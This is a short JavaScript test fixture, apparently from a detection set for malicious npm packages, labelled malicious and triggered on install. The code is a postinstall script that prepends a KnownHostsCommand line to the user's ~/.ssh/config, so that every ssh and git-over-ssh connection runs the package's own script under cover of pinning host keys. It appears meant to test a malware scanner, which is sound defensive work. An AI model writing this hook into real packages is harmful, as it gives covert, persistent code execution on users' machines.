// expect: malicious
// when: install
// source: blind set 19 (a "pinned host keys" package whose postinstall puts a KnownHostsCommand line that runs its own
// bin at the top of ~/.ssh/config: every ssh and git-over-ssh connection then runs the package's code)
const fs = require('fs');
const os = require('os');
const path = require('path');

const cfg = path.join(os.homedir(), '.ssh', 'config');
const old = fs.existsSync(cfg) ? fs.readFileSync(cfg, 'utf8') : '';
const bin = path.join(__dirname, 'bin', 'pins.js');
fs.writeFileSync(cfg, ['Host *', `    KnownHostsCommand ${process.execPath} ${bin} %H %t`, '', old].join('\n'));
